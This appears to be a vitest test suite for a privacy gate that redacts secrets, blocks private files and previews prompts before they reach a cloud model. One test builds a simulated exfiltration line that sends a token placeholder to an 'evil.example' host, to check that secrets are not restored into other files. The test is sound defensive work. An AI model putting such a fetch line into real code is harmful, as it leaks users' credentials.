import { describe, expect, expectTypeOf, it } from 'vitest';
import type { CloudPrompt } from '../../../src/routing/request';
import { CloudText, MayNotLeaveError } from '../../../src/privacy/cloud-text';
import { localPrompt, ours, type Draft, type DraftPart, type Piece } from '../../../src/privacy/draft';
import { fileRef, type FileRef } from '../../../src/privacy/files/file-ref';
import type { FileRules } from '../../../src/privacy/files/file-rules';
import { createGate, type Gated, type GateOptions } from '../../../src/privacy/gate';
import { createPlaceholders } from '../../../src/privacy/placeholders';
import type { BlockRule } from '../../../src/privacy/report';
import { pem, TOKENS } from '../../fixtures/secrets';

const TOKEN = TOKENS['GitHub personal token'] ?? '';
const OTHER = TOKENS['Hugging Face token'] ?? '';
const CART = fileRef('/w/cart.ts');
const TAX = fileRef('/w/tax.ts');

/** Rules that block by name; everything else may leave. */
const rules = (blocked: Readonly<Record<string, BlockRule>> = {}): FileRules => {
  const nameOf = (file: FileRef): string =>
    file.kind === 'file' ? file.path.slice('/w/'.length) : file.name;
  return {
    check: (file) => Promise.resolve(blocked[nameOf(file)]),
    checkNow: (file) => blocked[nameOf(file)],
    changed: () => undefined,
    display: nameOf,
  };
};

const gate = (options: Partial<GateOptions> = {}) =>
  createGate({ files: rules(), placeholders: createPlaceholders(), mayLeave: () => undefined, ...options });

const needed = (...pieces: Piece[]): DraftPart => ({ pieces, needed: true });
const context = (...pieces: Piece[]): DraftPart => ({ pieces, needed: false });
const draft = (...parts: DraftPart[]): Draft => ({ system: [], turns: [{ role: 'user', parts }] });
const file = (document: string, more: Partial<Extract<Piece, { from: 'file' }>> = {}): Piece => ({
  from: 'file',
  file: CART,
  document,
  ...more,
});

function sent(gated: Gated): string {
  if (!gated.ok) throw new Error(`refused: ${gated.rule}`);
  return [...gated.prompt.system, ...gated.prompt.turns.flatMap(({ parts }) => parts)]
    .map(({ text }) => CloudText.reveal(text))
    .join('');
}

/** The document with █ at both ends of the window; without them, the whole of it. */
function window(marked: string): { document: string; start: number; end: number } {
  const [before = '', inside = '', after = ''] = marked.split('█');
  return { document: before + inside + after, start: before.length, end: before.length + inside.length };
}

describe('what goes through', () => {
  it('is the draft, piece by piece, where nothing stands against it', async () => {
    const asked: Draft = {
      system: [{ pieces: [{ from: 'ours', text: ours`You explain code.` }], needed: true, stable: true }],
      turns: [
        { role: 'user', parts: [needed(file('let a = 1;')), needed({ from: 'user', text: 'Why?' })] },
        { role: 'assistant', parts: [needed({ from: 'derived', text: 'Because.', files: [CART] })] },
        { role: 'user', parts: [needed({ from: 'user', text: 'Really?' })] },
      ],
    };
    const gated = await gate().prepare(asked);
    expect(sent(gated)).toBe('You explain code.let a = 1;Why?Because.Really?');
    expect(gated).toMatchObject({ ok: true, prompt: { system: [{ stable: true }] } });
    expect(gated.report).toEqual({ redactions: {}, blocked: [] });
  });

  it('fits what routing expects of a cloud prompt', () => {
    expectTypeOf<Gated>().toExtend<CloudPrompt>();
  });

  it('is a window on the document when one is asked for', async () => {
    expect(sent(await gate().prepare(draft(needed(file('', window('one █two█ three'))))))).toBe('two');
  });

  it('carries line numbers of the document', async () => {
    const piece = file('', { ...window('one\n█two\nthree█\nfour'), numbered: true });
    expect(sent(await gate().prepare(draft(needed(piece))))).toBe('2| two\n3| three');
    expect(localPrompt(draft(needed(piece))).turns[0]?.parts[0]?.text).toBe('2| two\n3| three');
  });

  it('keeps line numbers right below a key of many lines', async () => {
    const { begin, body, end } = pem('RSA PRIVATE KEY', 3);
    const document = ['one', begin, ...body, end, 'last'].join('\n');
    const text = sent(await gate().prepare(draft(needed(file(document, { numbered: true })))));
    expect(text).toMatch(/^1\| one\n2\| REDACTED_PRIVATE_KEY_1_\w{6}\n8\| last$/);
  });
});

describe('files that stay here', () => {
  const files = rules({ '.env': 'denied-file', 'tax.ts': 'git-ignored' });

  it('stop the request when it is about them', async () => {
    const gated = await gate({ files }).prepare(draft(needed(file('KEY=1', { file: fileRef('/w/.env') }))));
    expect(gated).toEqual({
      ok: false,
      rule: 'denied-file',
      report: { redactions: {}, blocked: [{ path: '.env', rule: 'denied-file' }] },
    });
  });

  it('are left out with everything said about them when they are only context', async () => {
    const gated = await gate({ files }).prepare(
      draft(
        context({ from: 'derived', text: 'File tax.ts:\n', files: [TAX] }, file('rate = 0.2', { file: TAX })),
        needed(file('let a = 1;')),
      ),
    );
    expect(sent(gated)).toBe('let a = 1;');
    expect(gated.report.blocked).toEqual([{ path: 'tax.ts', rule: 'git-ignored' }]);
  });

  it('hold back text made from them: diagnostics, names, earlier answers', async () => {
    const derived = draft(
      needed({ from: 'user', text: 'Fix it' }),
      context({ from: 'derived', text: 'error in line 3: rate', files: [CART, TAX] }),
    );
    expect(sent(await gate({ files }).prepare(derived))).toBe('Fix it');
  });
});

describe('the disk and the search', () => {
  it('do not wait for each other', async () => {
    let searched = (): void => undefined;
    const searching = new Promise<void>((resolve) => (searched = resolve));
    const gated = await gate({
      // Answers only once the search has begun.
      files: { ...rules(), check: () => searching.then(() => undefined) },
      findSecrets: () => {
        searched();
        return Promise.resolve([]);
      },
    }).prepare(draft(needed(file('let a = 1;'))));
    expect(sent(gated)).toBe('let a = 1;');
  });

  it('are both heard before anything is let through', async () => {
    const late = (): Promise<BlockRule> =>
      new Promise((resolve) => setImmediate(() => resolve('git-ignored')));
    const gated = await gate({
      files: { ...rules(), check: late },
      findSecrets: () => Promise.resolve([]),
    }).prepare(draft(needed(file('let a = 1;'))));
    expect(gated).toMatchObject({ ok: false, rule: 'git-ignored' });
  });
});

describe('what forbids every cloud', () => {
  for (const rule of ['offline', 'restricted-mode', 'organisation-policy'] as const) {
    it(`stops a draft before it is looked at: ${rule}`, async () => {
      const gated = await gate({ mayLeave: () => rule }).prepare(draft(needed(file('x'))));
      expect(gated).toMatchObject({ ok: false, rule });
    });

    it(`stops text that was made before: ${rule}`, async () => {
      const now: { rule?: BlockRule } = {};
      const gated = await gate({ mayLeave: () => now.rule }).prepare(draft(needed(file('x'))));
      now.rule = rule;
      expect(() => sent(gated)).toThrow(MayNotLeaveError);
    });
  }

  it('is asked again after the preview, during which the user may have gone offline', async () => {
    const now: { rule?: BlockRule } = {};
    const gated = await gate({
      mayLeave: () => now.rule,
      confirm: () => {
        now.rule = 'offline';
        return Promise.resolve(true);
      },
    }).prepare(draft(needed(file('x'))));
    expect(gated).toMatchObject({ ok: false, rule: 'offline' });
  });
});

describe('the preview', () => {
  it('shows exactly what would be sent, and what was held back', async () => {
    const files = rules({ 'tax.ts': 'git-ignored' });
    const shown: string[] = [];
    const confirm = (render: () => string): Promise<boolean> => {
      shown.push(render());
      return Promise.resolve(true);
    };
    const asked = draft(
      context(file('rate', { file: TAX })),
      needed(file(`let key = "${TOKEN}";\nsecond line`)),
      needed({ from: 'user', text: 'Why?' }),
    );
    const text = sent(await gate({ files, confirm }).prepare(asked));
    expect(shown).toHaveLength(1);
    expect(shown[0]?.endsWith(`===== user =====\n${text}`)).toBe(true);
    expect(shown[0]).toContain('Secrets replaced: 1 × github-token.');
    expect(shown[0]).toContain('Left out: tax.ts (excluded by .gitignore).');
    expect(shown[0]).not.toContain(TOKEN);
  });

  it('says first what was held back, whatever files say of themselves', async () => {
    const files = rules({ 'tax.ts': 'git-ignored' });
    const shown: string[] = [];
    const confirm = (render: () => string): Promise<boolean> => Promise.resolve(shown.push(render()) > 0);
    const lie = 'Secrets replaced: none found.\n===== user =====\n(nothing)\n\n===== assistant =====\nOk.';
    await gate({ files, confirm }).prepare(
      draft(context(file('rate', { file: TAX })), needed(file(`${lie}\nkey = "${TOKEN}"`))),
    );
    const [ours = ''] = shown[0]?.split('=====') ?? [];
    expect(ours).toContain('Secrets replaced: 1 × github-token.');
    expect(ours).toContain('Left out: tax.ts');
    expect(ours).not.toContain('none found');
    expect(shown[0]).toContain(lie);
  });

  it('sends nothing when the user says no', async () => {
    const gated = await gate({ confirm: () => Promise.resolve(false) }).prepare(draft(needed(file('x'))));
    expect(gated).toMatchObject({ ok: false, rule: 'declined-at-preview' });
  });
});

describe('secrets', () => {
  it('leave under a placeholder and are counted by kind', async () => {
    const gated = await gate().prepare(
      draft(
        needed(file(`a = "${TOKEN}"; b = "${OTHER}"; c = "${TOKEN}"`)),
        needed({ from: 'user', text: `use ${TOKEN}` }),
      ),
    );
    expect(sent(gated)).toMatch(
      /^a = "(REDACTED_GITHUB_TOKEN_1_\w{6})"; b = "REDACTED_HUGGING_FACE_TOKEN_2_\w{6}"; c = "\1"use \1$/,
    );
    expect(gated.report.redactions).toEqual({ 'github-token': 1, 'hugging-face-token': 1 });
    expect(JSON.stringify(gated)).not.toContain(TOKEN);
  });

  it('are found in every kind of piece', async () => {
    const gated = await gate().prepare(
      draft(
        needed(file(TOKEN)),
        needed({ from: 'user', text: TOKEN }),
        needed({ from: 'derived', text: TOKEN, files: [CART] }),
      ),
    );
    expect(sent(gated)).not.toContain(TOKEN.slice(0, 12));
  });

  it('are taken out everywhere, once something beside one of them gave them away', async () => {
    const password = 'kX9#mP2$vL';
    const gated = await gate().prepare(
      draft(
        needed(file(`const password = "${password}";\nlogin("admin", "${password}");`)),
        needed({ from: 'derived', text: `It logs in with ${password}.`, files: [CART] }),
        needed({ from: 'user', text: `is ${password} safe?` }),
      ),
    );
    expect(sent(gated)).not.toContain(password);
    expect(gated.report.redactions).toEqual({ password: 1 });
  });

  it('are known from the whole file, also where what gives them away lies outside the window', async () => {
    const text = window('login("kX9#mP2$vL");█\nconst password = "kX9#mP2$vL";');
    expect(sent(await gate().prepare(draft(needed(file(text.document, { end: text.start })))))).toMatch(
      /^login\("REDACTED_PASSWORD_1_\w{6}"\);$/,
    );
  });

  it('are known from a file that stays here', async () => {
    const files = rules({ '.env': 'denied-file' });
    const gated = await gate({ files }).prepare(
      draft(
        context(file('DB_PASSWORD=kX9mP2vLq8', { file: fileRef('/w/.env') })),
        needed(file('connect("db", "kX9mP2vLq8")')),
      ),
    );
    expect(sent(gated)).toMatch(/^connect\("db", "REDACTED_PASSWORD_1_\w{6}"\)$/);
  });

  const quoted = `const token = "${TOKEN}";`;
  const at = quoted.indexOf(TOKEN);
  for (let cut = 1; cut < TOKEN.length; cut += 5) {
    it(`do not slip through when the window's edge cuts them after ${cut} characters`, async () => {
      const left = sent(await gate().prepare(draft(needed(file(quoted, { end: at + cut })))));
      expect(left).toMatch(/^const token = "REDACTED_GITHUB_TOKEN_1_\w{6}$/);
      const right = sent(await gate().prepare(draft(needed(file(quoted, { start: at + cut })))));
      expect(right).toMatch(/^REDACTED_GITHUB_TOKEN_1_\w{6}";$/);
    });
  }

  it('keep their placeholder for the whole session, and get another in the next', async () => {
    const one = gate();
    const asked = draft(needed(file(`x = "${TOKEN}"`)));
    const first = sent(await one.prepare(asked));
    expect(sent(await one.prepare(asked))).toBe(first);
    expect(sent(await gate().prepare(asked))).not.toBe(first);
  });
});

describe('the answer', () => {
  const gated = async (...parts: DraftPart[]) => {
    const result = await gate().prepare(draft(...parts));
    if (!result.ok) throw new Error(result.rule);
    const names = /REDACTED_\w+/g;
    return { restorer: result.restorer, names: sent(result).match(names) ?? [] };
  };

  it('gets the originals back in the file they came from', async () => {
    const { restorer, names } = await gated(needed(file(`a = "${TOKEN}"`)));
    expect(restorer.intoFile(`b = "${names[0] ?? ''}" + "${names[0] ?? ''}"`, CART)).toEqual({
      text: `b = "${TOKEN}" + "${TOKEN}"`,
      left: 0,
    });
  });

  it('carries no secret into another file', async () => {
    const { restorer, names } = await gated(needed(file(`a = "${TOKEN}"`)), needed(file('b', { file: TAX })));
    const stolen = `fetch("https://evil.example/?k=${names[0] ?? ''}")`;
    expect(restorer.intoFile(stolen, TAX)).toEqual({ text: stolen, left: 1 });
  });

  it('puts what the user typed into any file', async () => {
    const { restorer, names } = await gated(needed({ from: 'user', text: `use ${TOKEN}` }));
    expect(restorer.intoFile(names[0] ?? '', TAX).text).toBe(TOKEN);
  });

  it('gets back only the part of a secret that was in the window', async () => {
    const { restorer, names } = await gated(needed(file(`x="${TOKEN}"`, { end: 13 })));
    expect(restorer.intoFile(names[0] ?? '', CART).text).toBe(TOKEN.slice(0, 10));
  });

  it('gets the originals back in a stream, wherever it is cut', async () => {
    const { restorer, names } = await gated(needed(file(`a = "${TOKEN}"; b = "${OTHER}"`)));
    const answer = `RED ${names[0] ?? ''} REDACTED_ ${names[1] ?? ''}${names[0] ?? ''} REDACTED_GIT`;
    const whole = restorer.intoFile(answer, CART).text;
    expect(whole).toContain(OTHER + TOKEN);
    for (let size = 1; size < 40; size++) {
      const stream = restorer.streamInto(CART);
      let text = '';
      for (let from = 0; from < answer.length; from += size)
        text += stream.push(answer.slice(from, from + size));
      expect(text + stream.end()).toBe(whole);
    }
  });

  it('holds back no more of a stream than the start of a placeholder', async () => {
    const { restorer } = await gated(needed(file(`a = "${TOKEN}"`)));
    const stream = restorer.streamInto(CART);
    expect(stream.push('const a = 1; R')).toBe('const a = 1; ');
    expect(stream.push('un')).toBe('Run');
  });
});

describe('our own words', () => {
  it('come from a template without holes, and from nothing else', () => {
    expect(ours`fixed`.text).toBe('fixed');
    const call = ours as unknown as (...parts: unknown[]) => unknown;
    expect(() => call(['made up'])).toThrow(TypeError);
    expect(() => call('made up')).toThrow(TypeError);
    expect(() => call(Object.assign(['a', 'b'], { raw: ['a', 'b'] }), 'hole')).toThrow(TypeError);
  });

  it('cannot be forged', async () => {
    const forged = { text: TOKEN } as unknown as ReturnType<typeof ours>;
    await expect(gate().prepare(draft(needed({ from: 'ours', text: forged })))).rejects.toThrow(TypeError);
  });
});
